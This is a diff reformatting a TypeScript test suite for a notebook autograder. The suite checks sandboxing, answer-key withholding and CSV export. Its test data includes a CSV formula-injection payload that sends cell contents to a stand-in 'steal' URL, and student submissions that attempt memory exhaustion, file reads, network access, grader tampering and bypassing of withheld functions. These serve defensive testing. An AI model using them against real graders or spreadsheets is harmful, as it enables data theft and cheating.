@@ -25,8 +25,20 @@ import { findJupyter, jupyterPython, projectRoot } from '../../jupyter/environme
 const ROOT = projectRoot();
 const WORK = path.join(ROOT, 'test-artifacts', 'grading');
 
-const md = (id: string, text: string, extra: object = {}): Cell => ({ cell_type: 'markdown', id, metadata: { nbgrader: { grade: false, grade_id: id, locked: true, schema_version: 3, solution: false, ...extra } }, source: toLines(text) });
-const code = (id: string, text: string, nbgrader: object): Cell => ({ cell_type: 'code', id, metadata: { nbgrader: { grade_id: id, schema_version: 3, ...nbgrader } }, source: toLines(text), outputs: [], execution_count: null });
+const md = (id: string, text: string, extra: object = {}): Cell => ({
+  cell_type: 'markdown',
+  id,
+  metadata: { nbgrader: { grade: false, grade_id: id, locked: true, schema_version: 3, solution: false, ...extra } },
+  source: toLines(text),
+});
+const code = (id: string, text: string, nbgrader: object): Cell => ({
+  cell_type: 'code',
+  id,
+  metadata: { nbgrader: { grade_id: id, schema_version: 3, ...nbgrader } },
+  source: toLines(text),
+  outputs: [],
+  execution_count: null,
+});
 const locked = { grade: false, locked: true, solution: false };
 const solution = { grade: false, locked: false, solution: true };
 const test = (points: number) => ({ grade: true, locked: true, solution: false, points });
@@ -42,11 +54,34 @@ function miniLab(): Notebook {
     cells: [
       md('intro', '# Mini lab\nWrite `square` and `mean`.'),
       code('imports', "import { tf, init, expectClose, expectTrue, losses } from 'genlab';\nawait init();", locked),
-      code('square', 'function square(x: number): number {\n  // BEGIN SOLUTION\n  return x * x;\n  // END SOLUTION\n}', solution),
-      code('square-check', "expectClose('square(3)', square(3), 9);\n// BEGIN HIDDEN TESTS\nexpectClose('square(-4)', square(-4), 16);\n// END HIDDEN TESTS", test(2)),
-      { ...code('mean', 'function mean(xs: number[]): number {\n  // BEGIN SOLUTION\n  return xs.reduce((a, b) => a + b, 0) / xs.length;\n  // END SOLUTION\n}', solution), metadata: { nbgrader: { grade_id: 'mean', schema_version: 3, ...solution }, genlab: { timeout: 30 } } },
-      code('mean-check', "expectClose('mean', mean([1, 2, 3, 6]), 3, { mistakes: [{ values: 12, says: 'you returned the sum, not the mean' }] });\n// BEGIN HIDDEN TESTS\nexpectClose('mean of one', mean([5]), 5);\n// END HIDDEN TESTS", test(3)),
-      code('tf-check', "expectTrue('square agrees with tf', Math.abs(tf.scalar(1.5).square().dataSync()[0] - square(1.5)) < 1e-9, 'square(1.5) should be 2.25');", test(1)),
+      code(
+        'square',
+        'function square(x: number): number {\n  // BEGIN SOLUTION\n  return x * x;\n  // END SOLUTION\n}',
+        solution,
+      ),
+      code(
+        'square-check',
+        "expectClose('square(3)', square(3), 9);\n// BEGIN HIDDEN TESTS\nexpectClose('square(-4)', square(-4), 16);\n// END HIDDEN TESTS",
+        test(2),
+      ),
+      {
+        ...code(
+          'mean',
+          'function mean(xs: number[]): number {\n  // BEGIN SOLUTION\n  return xs.reduce((a, b) => a + b, 0) / xs.length;\n  // END SOLUTION\n}',
+          solution,
+        ),
+        metadata: { nbgrader: { grade_id: 'mean', schema_version: 3, ...solution }, genlab: { timeout: 30 } },
+      },
+      code(
+        'mean-check',
+        "expectClose('mean', mean([1, 2, 3, 6]), 3, { mistakes: [{ values: 12, says: 'you returned the sum, not the mean' }] });\n// BEGIN HIDDEN TESTS\nexpectClose('mean of one', mean([5]), 5);\n// END HIDDEN TESTS",
+        test(3),
+      ),
+      code(
+        'tf-check',
+        "expectTrue('square agrees with tf', Math.abs(tf.scalar(1.5).square().dataSync()[0] - square(1.5)) < 1e-9, 'square(1.5) should be 2.25');",
+        test(1),
+      ),
       // genlab implements klNormal too (losses.klNormal): the lab withholds it.
       code('kl', `${KL_SIGNATURE}\n  // BEGIN SOLUTION\n  ${KL_BODY}\n  // END SOLUTION\n}`, solution),
       code(
@@ -57,7 +92,10 @@ function miniLab(): Notebook {
       ),
       md('q1', 'YOUR ANSWER HERE', { grade: true, solution: true, locked: false, points: 1 }),
     ],
-    metadata: { kernelspec: { name: 'genlab', display_name: 'TypeScript (genlab)', language: 'typescript' }, genlab: { withheld: ['klNormal'] } },
+    metadata: {
+      kernelspec: { name: 'genlab', display_name: 'TypeScript (genlab)', language: 'typescript' },
+      genlab: { withheld: ['klNormal'] },
+    },
     nbformat: 4,
     nbformat_minor: 5,
   };
@@ -86,24 +124,43 @@ describe('grading: release and assembly', () => {
     const check = sourceOf(released.cells[3]);
     assert.strictEqual(check, "expectClose('square(3)', square(3), 9);");
     // nbgrader's checksum: MD5 of source, type, flags as Python prints them, grade_id and points.
-    const expected = createHash('md5').update(check).update('code').update('True').update('False').update('True').update('square-check').update('2.0').digest('hex');
+    const expected = createHash('md5')
+      .update(check)
+      .update('code')
+      .update('True')
+      .update('False')
+      .update('True')
+      .update('square-check')
+      .update('2.0')
+      .digest('hex');
     assert.strictEqual(released.cells[3].metadata.nbgrader!.checksum, expected);
     assert.strictEqual(computeChecksum(released.cells[3]), expected);
-    assert.ok(released.cells.every((c) => c.cell_type !== 'code' || (c.outputs!.length === 0 && c.execution_count === null)));
+    assert.ok(
+      released.cells.every((c) => c.cell_type !== 'code' || (c.outputs!.length === 0 && c.execution_count === null)),
+    );
   });
 
   it('the release is valid nbformat 4', () => {
     fs.mkdirSync(WORK, { recursive: true });
     const file = path.join(WORK, 'mini-release.ipynb');
     writeNotebook(file, releaseNotebook(miniLab(), 'mini'));
-    execFileSync(jupyterPython()!, ['-c', 'import sys, nbformat; nbformat.validate(nbformat.read(sys.argv[1], as_version=4))', file]);
+    execFileSync(jupyterPython()!, [
+      '-c',
+      'import sys, nbformat; nbformat.validate(nbformat.read(sys.argv[1], as_version=4))',
+      file,
+    ]);
   });
 
   it('refuses a source with broken markers or metadata, naming the cell', () => {
     const nb = miniLab();
     nb.cells[2].source = toLines('function square(x: number) {\n  // BEGIN SOLUTION\n  return x * x;\n}');
     nb.cells[5].metadata.nbgrader!.grade_id = 'square-check';
-    assert.throws(() => releaseNotebook(nb, 'mini'), (e: Error) => /cell 2 \('square'\): 'BEGIN SOLUTION' on line 2 is never closed/.test(e.message) && /reuses grade_id 'square-check'/.test(e.message));
+    assert.throws(
+      () => releaseNotebook(nb, 'mini'),
+      (e: Error) =>
+        /cell 2 \('square'\): 'BEGIN SOLUTION' on line 2 is never closed/.test(e.message) &&
+        /reuses grade_id 'square-check'/.test(e.message),
+    );
   });
 
   it('assembles from the source: locked cells are the source’s; deleted, duplicated, edited, reordered and foreign cells are reported', () => {
@@ -111,23 +168,68 @@ describe('grading: release and assembly', () => {
     student.cells.splice(4, 1); // delete 'mean'
     student.cells.push(JSON.parse(JSON.stringify(student.cells[2]))); // duplicate 'square'
     [student.cells[5], student.cells[4]] = [student.cells[4], student.cells[5]]; // reorder two graded cells
-    student.cells.push({ ...student.cells[1], metadata: { nbgrader: { grade_id: 'bonus', locked: true, schema_version: 3 } } });
+    student.cells.push({
+      ...student.cells[1],
+      metadata: { nbgrader: { grade_id: 'bonus', locked: true, schema_version: 3 } },
+    });
     const a = assemble(miniLab(), student);
-    assert.strictEqual(sourceOf(a.notebook.cells[3]), sourceOf(miniLab().cells[3]), 'the test cell comes from the source, hidden tests included');
+    assert.strictEqual(
+      sourceOf(a.notebook.cells[3]),
+      sourceOf(miniLab().cells[3]),
+      'the test cell comes from the source, hidden tests included',
+    );
     assert.strictEqual(a.origins[4], 'restored-stub');
     const problems = a.problems.join('\n');
-    for (const p of [/Cell 'mean' was deleted/, /Cell 'square' appears 2 times/, /Locked cell 'square-check' was edited/, /moved out of their original order/, /grade_id 'bonus'.*ignored/]) assert.match(problems, p);
-    assert.deepStrictEqual(a.tests.map((t) => [t.gradeId, t.points, t.hidden]), [['square-check', 2, true], ['mean-check', 3, true], ['tf-check', 1, false], ['kl-check', 3, true]]);
+    for (const p of [
+      /Cell 'mean' was deleted/,
+      /Cell 'square' appears 2 times/,
+      /Locked cell 'square-check' was edited/,
+      /moved out of their original order/,
+      /grade_id 'bonus'.*ignored/,
+    ])
+      assert.match(problems, p);
+    assert.deepStrictEqual(
+      a.tests.map((t) => [t.gradeId, t.points, t.hidden]),
+      [
+        ['square-check', 2, true],
+        ['mean-check', 3, true],
+        ['tf-check', 1, false],
+        ['kl-check', 3, true],
+      ],
+    );
     assert.deepStrictEqual(a.manual, [{ gradeId: 'q1', points: 1 }]);
   });
 
   it('grades.csv: formulas are neutralised, numbers stay numbers, and awkward names round-trip through a real CSV reader', () => {
-    const names = ['=HYPERLINK("http://x.example/steal?"&A1,"click")', '+SUM(A1:A9)', '-2+3', '@cmd', '\tcalc', '\rcmd', 'O\'Brien, "Bob"', 'two\nlines', 'plain', '−9 (a minus sign, not a hyphen)'];
+    const names = [
+      '=HYPERLINK("http://x.example/steal?"&A1,"click")',
+      '+SUM(A1:A9)',
+      '-2+3',
+      '@cmd',
+      '\tcalc',
+      '\rcmd',
+      'O\'Brien, "Bob"',
+      'two\nlines',
+      'plain',
+      '−9 (a minus sign, not a hyphen)',
+    ];
     const row = [...names.map(csvField), csvField(-3), csvField(2.5)].join(',');
-    const parsed = JSON.parse(execFileSync(jupyterPython()!, ['-c', 'import csv, io, json, sys; print(json.dumps(next(csv.reader(io.StringIO(sys.stdin.read(), newline="")))))'], { input: `${row}\n`, encoding: 'utf8' })) as string[];
+    const parsed = JSON.parse(
+      execFileSync(
+        jupyterPython()!,
+        [
+          '-c',
+          'import csv, io, json, sys; print(json.dumps(next(csv.reader(io.StringIO(sys.stdin.read(), newline="")))))',
+        ],
+        { input: `${row}\n`, encoding: 'utf8' },
+      ),
+    ) as string[];
     // Text that a spreadsheet would evaluate gets a leading apostrophe (OWASP); everything else comes back as it was.
     const formula = /^[=+\-@\t\r]/;
-    assert.deepStrictEqual(parsed.slice(0, names.length), names.map((n) => (formula.test(n) ? `'${n}` : n)));
+    assert.deepStrictEqual(
+      parsed.slice(0, names.length),
+      names.map((n) => (formula.test(n) ? `'${n}` : n)),
+    );
     for (const cell of parsed.slice(0, names.length)) assert.doesNotMatch(cell, formula);
     assert.deepStrictEqual(parsed.slice(names.length), ['-3', '2.5']);
   });
@@ -135,16 +237,24 @@ describe('grading: release and assembly', () => {
   it('lints the withheld answer keys: unknown names, and a function genlab implements that the lab forgets to withhold', () => {
     const unknown = miniLab();
     unknown.metadata.genlab = { withheld: ['klNormal', 'klNormall'] };
-    assert.match(lintSource(unknown, 'mini').join('\n'), /metadata\.genlab\.withheld names 'klNormall', which is not one of genlab's answer keys/);
+    assert.match(
+      lintSource(unknown, 'mini').join('\n'),
+      /metadata\.genlab\.withheld names 'klNormall', which is not one of genlab's answer keys/,
+    );
     const forgotten = miniLab();
     forgotten.metadata.genlab = { withheld: [] };
-    assert.match(lintSource(forgotten, 'mini').join('\n'), /cell 7 \('kl'\) asks for `klNormal`, which genlab implements \(losses\.klNormal.*but the notebook does not withhold it: add "klNormal" to metadata\.genlab\.withheld/);
+    assert.match(
+      lintSource(forgotten, 'mini').join('\n'),
+      /cell 7 \('kl'\) asks for `klNormal`, which genlab implements \(losses\.klNormal.*but the notebook does not withhold it: add "klNormal" to metadata\.genlab\.withheld/,
+    );
     assert.deepStrictEqual(lintSource(miniLab(), 'mini'), []);
   });
 
   it('reads top-level declarations for the shadowing guard', () => {
     assert.deepStrictEqual(
-      topLevelDeclarations("import { a, b as c } from 'x';\nimport * as ns from 'y';\nconst { d, e: [f] } = g;\nfunction h() { const inner = 1; }\nclass K {}\nlet m = 1, n = 2;"),
+      topLevelDeclarations(
+        "import { a, b as c } from 'x';\nimport * as ns from 'y';\nconst { d, e: [f] } = g;\nfunction h() { const inner = 1; }\nclass K {}\nlet m = 1, n = 2;",
+      ),
       ['a', 'c', 'ns', 'd', 'f', 'h', 'K', 'm', 'n'],
     );
   });
@@ -162,7 +272,9 @@ const KEY_ROUTES: Record<string, string> = {
   'key-fresh-copy': klWith(
     "for (const k of Object.keys(require.cache)) if (k.includes('/dist/lib/')) delete require.cache[k];\n  return require('genlab/dist/lib/losses').klNormal(mu, logvar);",
   ),
-  'key-higher-level': klWith('const n = mu.shape[0];\n  return losses.negativeElbo(tf.zeros([n, 1]), tf.zeros([n, 1]), mu, logvar).kl;'),
+  'key-higher-level': klWith(
+    'const n = mu.shape[0];\n  return losses.negativeElbo(tf.zeros([n, 1]), tf.zeros([n, 1]), mu, logvar).kl;',
+  ),
   'key-source-text': klWith("return (0, eval)('(' + String(losses.klNormal) + ')')(mu, logvar);"),
   // Falls back to its own code when the library refuses: the points are earned, the call is still flagged.
   'key-caught': klWith(`try {\n    return losses.klNormal(mu, logvar);\n  } catch {\n    ${KL_BODY}\n  }`),
@@ -188,19 +300,31 @@ function hostileCases(source: string, dir: string, out: string, port: number): R
       return nb;
     })(),
     'syntax-error': studentWith({ square: 'function square(x: number): number {\n  return x * ;\n}', mean: MEAN }),
-    'throws': studentWith({ square: "function square(x: number): number {\n  throw new Error('boom');\n}", mean: MEAN }),
+    throws: studentWith({ square: "function square(x: number): number {\n  throw new Error('boom');\n}", mean: MEAN }),
     'infinite-loop': studentWith({ square: 'function square(x: number): number {\n  while (true) {}\n}', mean: MEAN }),
     'async-hang': studentWith({ square: `${SQUARE}\nawait new Promise(() => {});`, mean: MEAN }),
-    'memory-bomb': studentWith({ square: `${SQUARE}\nconst hog: number[][] = [];\nfor (;;) hog.push(new Array(1e6).fill(Math.random()));`, mean: MEAN }),
+    'memory-bomb': studentWith({
+      square: `${SQUARE}\nconst hog: number[][] = [];\nfor (;;) hog.push(new Array(1e6).fill(Math.random()));`,
+      mean: MEAN,
+    }),
     'process-exit': studentWith({ square: `${SQUARE}\nprocess.exit(0);`, mean: MEAN }),
     // The source gives the 'mean' cell 30 s; the default here is 8 s.
-    'slow-but-allowed': studentWith({ square: SQUARE, mean: `${MEAN}\nconst until = Date.now() + 12000;\nwhile (Date.now() < until) {}` }),
+    'slow-but-allowed': studentWith({
+      square: SQUARE,
+      mean: `${MEAN}\nconst until = Date.now() + 12000;\nwhile (Date.now() < until) {}`,
+    }),
     'raises-own-limit': (() => {
-      const nb = studentWith({ square: `${SQUARE}\nconst until = Date.now() + 12000;\nwhile (Date.now() < until) {}`, mean: MEAN });
+      const nb = studentWith({
+        square: `${SQUARE}\nconst until = Date.now() + 12000;\nwhile (Date.now() < until) {}`,
+        mean: MEAN,
+      });
       nb.cells.find((c) => c.metadata.nbgrader?.grade_id === 'square')!.metadata.genlab = { timeout: 100 };
       return nb;
     })(),
-    'huge-output': studentWith({ square: `${SQUARE}\nconsole.log('spam '.repeat(4_000_000));\nfor (let i = 0; i < 2000; i++) console.log('line ' + i);`, mean: MEAN }),
+    'huge-output': studentWith({
+      square: `${SQUARE}\nconsole.log('spam '.repeat(4_000_000));\nfor (let i = 0; i < 2000; i++) console.log('line ' + i);`,
+      mean: MEAN,
+    }),
     'files-and-network': studentWith({
       square: SQUARE,
       mean: `${MEAN}
@@ -241,7 +365,10 @@ attempt('tslab execute', () => { require('tslab/dist/jupyter').JupyterHandlerImp
 attempt('grader', () => { (globalThis as any).__genlab_grader = { pass: () => undefined }; }, () => (globalThis as any).__genlab_grader.pass.length === 0);
 console.log(tries.join('\\n'));`,
     }),
-    'shadows-helper': studentWith({ square: SQUARE, mean: `${WRONG_MEAN}\nconst expectClose = (..._args: unknown[]) => undefined;` }),
+    'shadows-helper': studentWith({
+      square: SQUARE,
+      mean: `${WRONG_MEAN}\nconst expectClose = (..._args: unknown[]) => undefined;`,
+    }),
   };
   for (const [name, kl] of Object.entries(KEY_ROUTES)) cases[name] = studentWith({ square: SQUARE, mean: MEAN, kl });
   return cases;
@@ -274,13 +401,23 @@ async function gradeHostileBatch(sandbox: SandboxKind): Promise<GradedBatch> {
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
   try {
     const hashes = new Map<string, string>();
-    for (const [name, nb] of Object.entries(hostileCases(source, dir, out, (server.address() as { port: number }).port))) {
+    for (const [name, nb] of Object.entries(
+      hostileCases(source, dir, out, (server.address() as { port: number }).port),
+    )) {
       const file = path.join(dir, `${name}.ipynb`);
       if (typeof nb === 'string') fs.writeFileSync(file, nb);
       else writeNotebook(file, nb);
       hashes.set(name, createHash('md5').update(fs.readFileSync(file)).digest('hex'));
     }
-    const run = await batch(dir, { source, out, jobs: 2, cellTimeoutS: 8, totalTimeoutS: 90, memoryMiB: 2048, sandbox });
+    const run = await batch(dir, {
+      source,
+      out,
+      jobs: 2,
+      cellTimeoutS: 8,
+      totalTimeoutS: 90,
+      memoryMiB: 2048,
+      sandbox,
+    });
     return { dir, out, results: run.results, seconds: run.seconds, hashes, hits };
   } finally {
     server.close();
@@ -326,8 +463,17 @@ describe('grading: hostile submissions, graded for real under bubblewrap', funct
     for (const [name] of hashes) {
       const onDisk = JSON.parse(fs.readFileSync(path.join(out, name, 'results.json'), 'utf8'));
       assert.deepStrictEqual(validateResults(onDisk), [], name);
-      assert.deepStrictEqual(onDisk.tests.map((t: { name: string }) => t.name), ['square-check', 'mean-check', 'tf-check', 'kl-check']);
-      assert.strictEqual(createHash('md5').update(fs.readFileSync(path.join(dir, `${name}.ipynb`))).digest('hex'), hashes.get(name), `${name} was modified`);
+      assert.deepStrictEqual(
+        onDisk.tests.map((t: { name: string }) => t.name),
+        ['square-check', 'mean-check', 'tf-check', 'kl-check'],
+      );
+      assert.strictEqual(
+        createHash('md5')
+          .update(fs.readFileSync(path.join(dir, `${name}.ipynb`)))
+          .digest('hex'),
+        hashes.get(name),
+        `${name} was modified`,
+      );
     }
   });
 
@@ -340,11 +486,20 @@ describe('grading: hostile submissions, graded for real under bubblewrap', funct
 
   it('names the mistake and shows no hidden test code', () => {
     assert.strictEqual(scoreOf('wrong-mean'), 3);
-    assert.strictEqual(test('wrong-mean', 'mean-check').output, 'CheckFailed: mean: you returned the sum, not the mean (got [12], expected [3]).');
+    assert.strictEqual(
+      test('wrong-mean', 'mean-check').output,
+      'CheckFailed: mean: you returned the sum, not the mean (got [12], expected [3]).',
+    );
     const feedback = fs.readFileSync(path.join(out, 'wrong-mean', 'feedback.html'), 'utf8');
     assert.match(feedback, /Test <code>mean-check<\/code> — 0 \/ 3 points/);
-    assert.ok(!feedback.includes('mean of one') && !feedback.includes('square(-4)'), 'hidden tests must not appear in feedback');
-    assert.ok(!/genlab-pass-[0-9a-f]{32}/.test(fs.readFileSync(path.join(out, 'wrong-mean', 'executed.ipynb'), 'utf8')), 'tokens are not kept');
+    assert.ok(
+      !feedback.includes('mean of one') && !feedback.includes('square(-4)'),
+      'hidden tests must not appear in feedback',
+    );
+    assert.ok(
+      !/genlab-pass-[0-9a-f]{32}/.test(fs.readFileSync(path.join(out, 'wrong-mean', 'executed.ipynb'), 'utf8')),
+      'tokens are not kept',
+    );
   });
 
   it('explains unreadable submissions', () => {
@@ -361,7 +516,10 @@ describe('grading: hostile submissions, graded for real under bubblewrap', funct
     assert.match(results.get('deleted-and-renamed')!.output, /Cell 'square' was deleted/);
     assert.match(results.get('deleted-and-renamed')!.output, /grade_id 'mean-renamed'/);
     assert.strictEqual(scoreOf('deleted-and-renamed'), 0);
-    assert.match(test('syntax-error', 'square-check').output, /^`square` is not defined because its cell 'square' failed \(TypeScriptError: line 2: Expression expected\.\), and a cell that does not finish defines nothing\. \(TypeScriptError: .*Cannot find name 'square'/);
+    assert.match(
+      test('syntax-error', 'square-check').output,
+      /^`square` is not defined because its cell 'square' failed \(TypeScriptError: line 2: Expression expected\.\), and a cell that does not finish defines nothing\. \(TypeScriptError: .*Cannot find name 'square'/,
+    );
     assert.strictEqual(test('syntax-error', 'mean-check').status, 'passed');
     assert.strictEqual(test('throws', 'square-check').output, 'Error: boom');
     assert.strictEqual(scoreOf('throws'), 3);
@@ -371,7 +529,10 @@ describe('grading: hostile submissions, graded for real under bubblewrap', funct
     assert.match(test('infinite-loop', 'square-check').output, /time limit of 8 s/);
     assert.strictEqual(test('infinite-loop', 'mean-check').status, 'passed');
     // A cell that never finishes is interrupted; tslab keeps no declaration from it.
-    assert.match(test('async-hang', 'square-check').output, /^`square` is not defined because its cell 'square' ran past the 8-s limit, and a cell that does not finish defines nothing\. \(TypeScriptError: .*Cannot find name 'square'/);
+    assert.match(
+      test('async-hang', 'square-check').output,
+      /^`square` is not defined because its cell 'square' ran past the 8-s limit, and a cell that does not finish defines nothing\. \(TypeScriptError: .*Cannot find name 'square'/,
+    );
     assert.strictEqual(test('async-hang', 'mean-check').status, 'passed', JSON.stringify(results.get('async-hang')));
     assert.ok(results.get('async-hang')!.execution_time < 60);
   });
@@ -400,7 +561,15 @@ describe('grading: hostile submissions, graded for real under bubblewrap', funct
 
   it('keeps the kernel from the source, other submissions, the output folder and the network', () => {
     const executed = fs.readFileSync(path.join(out, 'files-and-network', 'executed.ipynb'), 'utf8');
-    for (const what of ['read source', 'read notebooks', 'write results', 'overwrite submission', 'other submissions', 'child_process cat', 'network']) {
+    for (const what of [
+      'read source',
+      'read notebooks',
+      'write results',
+      'overwrite submission',
+      'other submissions',
+      'child_process cat',
+      'network',
+    ]) {
       assert.match(executed, new RegExp(`${what}: blocked`), `${what} should be blocked`);
     }
     assert.deepStrictEqual(hits, [], 'nothing reached the host network');
@@ -424,13 +593,24 @@ describe('grading: hostile submissions, graded for real under bubblewrap', funct
     assert.strictEqual(test('shadows-helper', 'mean-check').status, 'failed');
   });
 
-  it('gives no point for genlab\'s own klNormal, by any route, and flags each submission that reached for it', () => {
+  it("gives no point for genlab's own klNormal, by any route, and flags each submission that reached for it", () => {
     for (const route of Object.keys(KEY_ROUTES).filter((r) => r !== 'key-caught' && r !== 'key-source-text')) {
       const r = results.get(route)!;
       assert.strictEqual(r.score, 6, `${route}: ${JSON.stringify(r.tests)}`);
-      assert.match(test(route, 'kl-check').output, /^WithheldError: genlab's own `klNormal` is withheld while mini-source is graded: the lab asks you to write klNormal yourself/, route);
-      assert.ok(((r.extra_data.withheld_calls as Record<string, number>).klNormal ?? 0) >= 1, `${route} made no recorded call`);
-      assert.match(r.output, /Flag for the instructor: The submission called genlab's own `klNormal` \(\d+ times?\), which mini-source withholds/, route);
+      assert.match(
+        test(route, 'kl-check').output,
+        /^WithheldError: genlab's own `klNormal` is withheld while mini-source is graded: the lab asks you to write klNormal yourself/,
+        route,
+      );
+      assert.ok(
+        ((r.extra_data.withheld_calls as Record<string, number>).klNormal ?? 0) >= 1,
+        `${route} made no recorded call`,
+      );
+      assert.match(
+        r.output,
+        /Flag for the instructor: The submission called genlab's own `klNormal` \(\d+ times?\), which mini-source withholds/,
+        route,
+      );
     }
     // Its printed source is the guard's, not the implementation's: evaluating it gives nothing that computes.
     assert.strictEqual(scoreOf('key-source-text'), 6);
@@ -446,8 +626,16 @@ describe('grading: hostile submissions, graded for real under bubblewrap', funct
   it('writes grades.csv: one row per student, one column per test, then flags and problems', () => {
     const csv = fs.readFileSync(path.join(out, 'grades.csv'), 'utf8').trim().split('\n');
     assert.strictEqual(csv[0], 'student,score,max_score,square-check,mean-check,tf-check,kl-check,flags,problems');
-    assert.ok(csv.includes('correct,9,9,2,3,1,3,,'), csv.find((l) => l.startsWith('correct,')));
-    assert.ok(csv.some((l) => l.startsWith('key-namespace,6,9,2,3,1,0,"The submission called genlab\'s own `klNormal` (1 time)')), csv.find((l) => l.startsWith('key-namespace,')));
+    assert.ok(
+      csv.includes('correct,9,9,2,3,1,3,,'),
+      csv.find((l) => l.startsWith('correct,')),
+    );
+    assert.ok(
+      csv.some((l) =>
+        l.startsWith('key-namespace,6,9,2,3,1,0,"The submission called genlab\'s own `klNormal` (1 time)'),
+      ),
+      csv.find((l) => l.startsWith('key-namespace,')),
+    );
     console.log(`      (${hashes.size} submissions in ${seconds.toFixed(1)} s with 2 jobs)`);
   });
 });
@@ -464,7 +652,9 @@ for (const kind of ['unshare', 'none'] as const) {
     });
 
     it('gives every submission the score it gets under bubblewrap', () => {
-      const differ = [...underBubblewrap!.results].filter(([name, r]) => graded.results.get(name)?.score !== r.score).map(([name, r]) => `${name}: ${graded.results.get(name)?.score} here, ${r.score} under bubblewrap`);
+      const differ = [...underBubblewrap!.results]
+        .filter(([name, r]) => graded.results.get(name)?.score !== r.score)
+        .map(([name, r]) => `${name}: ${graded.results.get(name)?.score} here, ${r.score} under bubblewrap`);
       assert.deepStrictEqual(differ, []);
       for (const [name, r] of graded.results) assert.deepStrictEqual(validateResults(r), [], name);
     });
@@ -473,18 +663,37 @@ for (const kind of ['unshare', 'none'] as const) {
       for (const [name, r] of graded.results) {
         if (!r.tests.length) continue; // the grader failed before sandboxing (none of these)
         assert.strictEqual(r.extra_data.sandbox_kind, kind, name);
-        assert.ok((r.extra_data.not_contained as string[]).some((c) => c.startsWith('files')), name);
-        assert.match(r.output, kind === 'none' ? /Warning: this submission was graded WITHOUT a sandbox/ : /graded without file isolation \(unshare/, name);
+        assert.ok(
+          (r.extra_data.not_contained as string[]).some((c) => c.startsWith('files')),
+          name,
+        );
+        assert.match(
+          r.output,
+          kind === 'none'
+            ? /Warning: this submission was graded WITHOUT a sandbox/
+            : /graded without file isolation \(unshare/,
+          name,
+        );
       }
     });
 
-    it(kind === 'none' ? 'contains nothing, and says so' : 'keeps the network out (its loopback brought up for the kernel), not the files', () => {
-      const executed = fs.readFileSync(path.join(graded.out, 'files-and-network', 'executed.ipynb'), 'utf8');
-      assert.match(executed, /read source: ALLOWED/);
-      assert.match(executed, kind === 'none' ? /network: ALLOWED/ : /network: blocked/);
-      assert.strictEqual(graded.hits.length, kind === 'none' ? 1 : 0, graded.hits.join(', '));
-      assert.ok(((graded.results.get('files-and-network')!.extra_data.not_contained as string[]).some((c) => c.startsWith('the network'))) === (kind === 'none'));
-    });
+    it(
+      kind === 'none'
+        ? 'contains nothing, and says so'
+        : 'keeps the network out (its loopback brought up for the kernel), not the files',
+      () => {
+        const executed = fs.readFileSync(path.join(graded.out, 'files-and-network', 'executed.ipynb'), 'utf8');
+        assert.match(executed, /read source: ALLOWED/);
+        assert.match(executed, kind === 'none' ? /network: ALLOWED/ : /network: blocked/);
+        assert.strictEqual(graded.hits.length, kind === 'none' ? 1 : 0, graded.hits.join(', '));
+        assert.ok(
+          (graded.results.get('files-and-network')!.extra_data.not_contained as string[]).some((c) =>
+            c.startsWith('the network'),
+          ) ===
+            (kind === 'none'),
+        );
+      },
+    );
   });
 }
 
@@ -501,11 +710,23 @@ describe('grading: a machine with neither namespace tool (as on macOS)', functio
     writeNotebook(path.join(root, 'mini-source.ipynb'), miniLab());
     writeNotebook(path.join(root, 'alice.ipynb'), studentWith({ square: SQUARE, mean: MEAN, kl: klWith(KL_BODY) }));
     const cli = path.join(ROOT, 'dist', 'grading', 'cli.js');
-    const r = spawnSync(process.execPath, [cli, 'autograde', path.join(root, 'alice.ipynb'), '--source', path.join(root, 'mini-source.ipynb'), '--out', path.join(root, 'out')], {
-      encoding: 'utf8',
-      env: { ...process.env, PATH: bin },
-      timeout: 240000,
-    });
+    const r = spawnSync(
+      process.execPath,
+      [
+        cli,
+        'autograde',
+        path.join(root, 'alice.ipynb'),
+        '--source',
+        path.join(root, 'mini-source.ipynb'),
+        '--out',
+        path.join(root, 'out'),
+      ],
+      {
+        encoding: 'utf8',
+        env: { ...process.env, PATH: bin },
+        timeout: 240000,
+      },
+    );
     assert.strictEqual(r.status, 0, r.stdout + r.stderr);
     assert.match(r.stdout, /sandbox bubblewrap passed over: bwrap is not installed/);
     assert.match(r.stdout, /sandbox unshare passed over: unshare is not installed/);
@@ -514,7 +735,9 @@ describe('grading: a machine with neither namespace tool (as on macOS)', functio
     const results = JSON.parse(fs.readFileSync(path.join(root, 'out', 'results.json'), 'utf8')) as Results;
     assert.strictEqual(results.extra_data.sandbox_kind, 'none');
     assert.match(results.output, /Warning: this submission was graded WITHOUT a sandbox/);
-    assert.ok((results.extra_data.not_contained as string[]).includes('memory beyond the JS heap limit (prlimit is missing)'));
+    assert.ok(
+      (results.extra_data.not_contained as string[]).includes('memory beyond the JS heap limit (prlimit is missing)'),
+    );
   });
 });
 
@@ -523,7 +746,13 @@ describe('grading: the real labs', function () {
 
   const labs = fs
     .readdirSync(path.join(ROOT, 'notebooks'))
-    .filter((f) => /^\d\d-.*\.ipynb$/.test(f) && readNotebook(path.join(ROOT, 'notebooks', f)).cells.some((c) => c.metadata.nbgrader?.grade && !c.metadata.nbgrader?.solution));
+    .filter(
+      (f) =>
+        /^\d\d-.*\.ipynb$/.test(f) &&
+        readNotebook(path.join(ROOT, 'notebooks', f)).cells.some(
+          (c) => c.metadata.nbgrader?.grade && !c.metadata.nbgrader?.solution,
+        ),
+    );
   it('there is at least one graded lab', () => assert.ok(labs.includes('03-vae.ipynb'), labs.join(', ')));
   for (const lab of labs) {
     it(`validate ${lab}: the solutions pass every test and the release fails every one`, async () => {
@@ -542,8 +771,15 @@ describe('grading: the real labs', function () {
     fs.rmSync(path.join(exportDir, 'source', 'genlab'), { recursive: true });
     fs.symlinkSync(ROOT, path.join(exportDir, 'source', 'genlab'));
     fs.mkdirSync(path.join(exportDir, 'submission'), { recursive: true });
-    writeNotebook(path.join(exportDir, 'submission', 'my-work.ipynb'), releaseNotebook(readNotebook(path.join(ROOT, 'notebooks', '03-vae.ipynb')), '03-vae'));
-    const r = spawnSync('bash', [path.join(exportDir, 'source', 'run_autograder')], { env: { ...process.env, AUTOGRADER_ROOT: exportDir }, encoding: 'utf8', timeout: 300000 });
+    writeNotebook(
+      path.join(exportDir, 'submission', 'my-work.ipynb'),
+      releaseNotebook(readNotebook(path.join(ROOT, 'notebooks', '03-vae.ipynb')), '03-vae'),
+    );
+    const r = spawnSync('bash', [path.join(exportDir, 'source', 'run_autograder')], {
+      env: { ...process.env, AUTOGRADER_ROOT: exportDir },
+      encoding: 'utf8',
+      timeout: 300000,
+    });
